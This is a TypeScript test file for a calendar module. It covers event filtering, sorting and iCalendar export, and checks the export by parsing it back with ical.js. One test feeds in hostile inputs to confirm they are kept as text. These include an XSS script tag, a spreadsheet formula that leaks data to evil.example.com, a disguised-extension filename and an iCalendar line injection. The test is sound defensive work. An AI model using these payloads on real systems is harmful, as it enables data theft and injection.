import ICAL from 'ical.js'
import { describe, expect, it } from 'vitest'
import { calendarFile, DEFAULT_CALENDAR_SORT, filterCalendarEvents, sortCalendarEvents } from './calendar'
import type { CalendarEvent } from './entities/calendar'

const event_ = (eventId: string, overrides: Partial<CalendarEvent> = {}): CalendarEvent => ({
  eventId,
  title: `Event ${eventId}`,
  eventStartDate: '2024-05-10T14:00:00',
  ...overrides,
})

const events = [
  event_('1', {
    title: 'Annual Meeting',
    isRegistered: true,
    eventStartDate: '2024-06-01T09:00:00',
    eventLocation: 'New York',
  }),
  event_('2', { title: 'Webinar', isRegistered: false, description: 'Credit outlook' }),
  event_('3', { title: 'Broken', eventStartDate: 'tbd' }),
]

describe('calendar filters', () => {
  it('Registered, Non-registered and All Events', () => {
    expect(filterCalendarEvents(events, { registration: 'registered' }).map((e) => e.eventId)).toEqual(['1'])
    expect(filterCalendarEvents(events, { registration: 'nonRegistered' }).map((e) => e.eventId)).toEqual([
      '2',
      '3',
    ])
    expect(filterCalendarEvents(events, { registration: 'all' })).toHaveLength(3)
  })
  it('by month and by keyword in title, description or location', () => {
    expect(
      filterCalendarEvents(events, { registration: 'all', month: { year: 2024, month: 4 } }).map(
        (e) => e.eventId,
      ),
    ).toEqual(['2'])
    expect(
      filterCalendarEvents(events, { registration: 'all', keyword: ' credit ' }).map((e) => e.eventId),
    ).toEqual(['2'])
    expect(
      filterCalendarEvents(events, { registration: 'all', keyword: 'new york' }).map((e) => e.eventId),
    ).toEqual(['1'])
    expect(filterCalendarEvents(null, { registration: 'all' })).toEqual([])
  })
})

describe('calendar sort', () => {
  it('by date ascending by default, invalid dates last', () => {
    expect(DEFAULT_CALENDAR_SORT).toEqual({ key: 'eventStartDate', direction: 'ASC' })
    expect(sortCalendarEvents(events).map((e) => e.eventId)).toEqual(['2', '1', '3'])
    expect(
      sortCalendarEvents(events, { key: 'eventStartDate', direction: 'DESC' }).map((e) => e.eventId),
    ).toEqual(['1', '2', '3'])
    expect(sortCalendarEvents([events[2]!, events[0]!]).map((e) => e.eventId)).toEqual(['1', '3'])
  })
  it('by title', () => {
    expect(sortCalendarEvents(events, { key: 'title', direction: 'ASC' }).map((e) => e.title)).toEqual([
      'Annual Meeting',
      'Broken',
      'Webinar',
    ])
    expect(sortCalendarEvents(undefined)).toEqual([])
  })
})

/** The file read back with ical.js, a parser independent of the library that wrote it. */
function readBack(file: string | null) {
  expect(file).not.toBeNull()
  const calendar = new ICAL.Component(ICAL.parse(file!))
  const vevent = calendar.getFirstSubcomponent('vevent')!
  const text = (name: string) => vevent.getFirstPropertyValue(name)?.toString() ?? null
  const organizer = vevent.getFirstProperty('organizer')
  return {
    event: new ICAL.Event(vevent),
    text,
    organizer: organizer && {
      // The URI scheme is case-insensitive (RFC 3986); the library writes MAILTO.
      address: organizer
        .getFirstValue()
        ?.toString()
        .replace(/^mailto:/i, 'mailto:'),
      name: organizer.getParameter('cn') ?? null,
    },
  }
}

describe('calendar file', () => {
  it('exports start, duration, title, description, location and organizer', () => {
    const file = calendarFile(
      {
        eventId: 'e-1',
        title: 'Q2 Update, live',
        description: 'Line one\nLine two; more',
        eventLocation: 'Online',
        eventStartDate: '2024-05-10T14:00:00Z',
        eventEndDate: '2024-05-10T15:30:00Z',
        plannerEmail: 'ir@example.com',
        plannerFirstName: 'Ira',
        plannerLastName: 'Relations',
      },
      new Date(Date.UTC(2024, 0, 1)),
    )
    const { event, text, organizer } = readBack(file)
    expect(event.startDate.toJSDate().toISOString()).toBe('2024-05-10T14:00:00.000Z')
    expect(event.duration.toSeconds()).toBe(90 * 60)
    expect(event.summary).toBe('Q2 Update, live')
    expect(event.description).toBe('Line one\nLine two; more')
    expect(event.location).toBe('Online')
    expect(organizer).toEqual({ address: 'mailto:ir@example.com', name: 'Ira Relations' })
    expect(text('dtstamp')).toMatch(/^2024-01-01T00:00:00/)
    expect(file!.startsWith('BEGIN:VCALENDAR')).toBe(true)
  })

  it('keeps hostile titles and descriptions as text', () => {
    const hostile = [
      '<script>window.__pwned = "script"</script>Quarterly Report',
      '=HYPERLINK("http://evil.example.com/?leak="&A1,"Open statement")',
      'Invoice \u202Efdp.exe\u202C Q3; BEGIN:VEVENT\r\nEND:VCALENDAR',
      'a,b;c\\d:e',
      `Annual ${'Report '.repeat(200)}End`,
    ]
    for (const title of hostile) {
      const { event } = readBack(
        calendarFile(
          event_('h', { title, description: title, eventLocation: title }),
          new Date(Date.UTC(2024, 0, 1)),
        ),
      )
      expect(event.summary).toBe(title.replace(/\r\n/g, '\n'))
      expect(event.description).toBe(title.replace(/\r\n/g, '\n'))
      expect(event.location).toBe(title.replace(/\r\n/g, '\n'))
    }
  })

  it('lasts an hour without a valid end; has no organizer without an email, and one named by the address without a name', () => {
    const { event, organizer } = readBack(
      calendarFile(event_('2', { eventEndDate: 'later' }), new Date(2024, 0, 1)),
    )
    expect(event.duration.toSeconds()).toBe(3600)
    expect(organizer).toBeNull()
    expect(
      readBack(calendarFile(event_('3', { plannerEmail: 'a@b.c' }), new Date(2024, 0, 1))).organizer,
    ).toEqual({
      address: 'mailto:a@b.c',
      name: 'a@b.c',
    })
  })

  it('is null for an invalid start or stamp', () => {
    expect(calendarFile(events[2]!, new Date(2024, 0, 1))).toBeNull()
    expect(calendarFile(events[0]!, new Date(Number.NaN))).toBeNull()
  })
})
